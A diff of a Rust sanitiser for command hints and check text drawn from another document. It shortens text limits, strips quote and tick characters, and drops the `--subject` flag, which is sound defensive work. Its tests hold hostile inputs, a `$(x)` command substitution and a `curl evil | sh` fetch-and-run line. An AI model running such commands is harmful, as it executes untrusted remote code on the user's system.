@@ -7,12 +7,13 @@ use crate::chain::check::Check;
 use crate::chain::examination::Examination;
 use crate::chain::finding::Finding;
 use crate::diagnosis::catalogue::Catalogue;
-use crate::ids::{NamespaceName, ObjectName};
 
 /// How many checks, findings and facts of another document are used.
 const MOST: usize = 200;
 /// How much of one of its texts is used, in characters.
-const LONGEST: usize = 2000;
+const LONGEST: usize = 300;
+/// How much of a check's name is used, in characters.
+const LONGEST_NAME: usize = 40;
 
 /// The commands that a hint of another view can name.
 const COMMANDS: [(&str, &[&str]); 2] = [
@@ -42,7 +43,7 @@ fn check(check: &mut Check) {
     check.hint = check.hint.as_deref().and_then(command);
     check.failure.take_if(|id| Catalogue::get().row(id).is_none());
     facts(&mut check.evidence);
-    cut(&mut check.check);
+    cut_to(&mut check.check, LONGEST_NAME);
     cut(&mut check.says);
 }
 
@@ -67,41 +68,26 @@ fn facts(evidence: &mut Vec<String>) {
 
 /// One line each: a break could begin one that looks like this program's own.
 fn cut(text: &mut String) {
-    *text = text.replace(['\n', '\r', '\t'], " ");
-    if let Some((at, _)) = text.char_indices().nth(LONGEST) {
+    cut_to(text, LONGEST);
+}
+
+fn cut_to(text: &mut String, longest: usize) {
+    // Without its own marks and quotes, a text cannot look like a line of this program.
+    *text = text.replace(['\n', '\r', '\t', '✓', '✔', '"'], " ");
+    if let Some((at, _)) = text.char_indices().nth(longest) {
         text.truncate(at);
         text.push('…');
     }
 }
 
-/// The command at the beginning of a hint, with no flag but `--subject` of a service account.
+/// The command at the beginning of a hint, without flags: `--subject` too gives the extension's identity to what it names.
 fn command(hint: &str) -> Option<String> {
     let mut words = hint.split_whitespace();
     let program = format!("{} {}", words.next()?, words.next()?);
     let name = words.next()?;
     let (_, names) = COMMANDS.iter().find(|(own, _)| *own == program)?;
     let name = names.iter().find(|known| **known == name)?;
-    let mut command = format!("{program} {name}");
-    let words: Vec<&str> = words.collect();
-    for pair in words.windows(2) {
-        if let ["--subject", subject] = pair
-            && is_subject(subject)
-        {
-            command.push_str(" --subject ");
-            command.push_str(subject);
-        }
-    }
-    Some(command)
-}
-
-/// Whether this is `system:serviceaccount:NAMESPACE:NAME`.
-fn is_subject(text: &str) -> bool {
-    let names = text.strip_prefix("system:serviceaccount:");
-    names
-        .and_then(|names| names.split_once(':'))
-        .is_some_and(|(namespace, name)| {
-            namespace.parse::<NamespaceName>().is_ok() && name.parse::<ObjectName>().is_ok()
-        })
+    Some(format!("{program} {name}"))
 }
 
 #[cfg(test)]
@@ -127,7 +113,7 @@ mod tests {
     }
 
     #[test]
-    fn a_hint_keeps_the_bare_command_and_harmless_subjects() {
+    fn a_hint_keeps_the_bare_command() {
         let subject = "system:serviceaccount:dataprotection-microsoft:x";
         for (hint, kept) in [
             (
@@ -144,7 +130,7 @@ mod tests {
             ),
             (
                 &format!("az aksbackup prepare --subject {subject} --yes"),
-                Some(&format!("az aksbackup prepare --subject {subject}")),
+                Some("az aksbackup prepare"),
             ),
             ("az aksbackup prepare --subject $(x)", Some("az aksbackup prepare")),
             ("az aksbackup prepare; curl evil | sh", None),
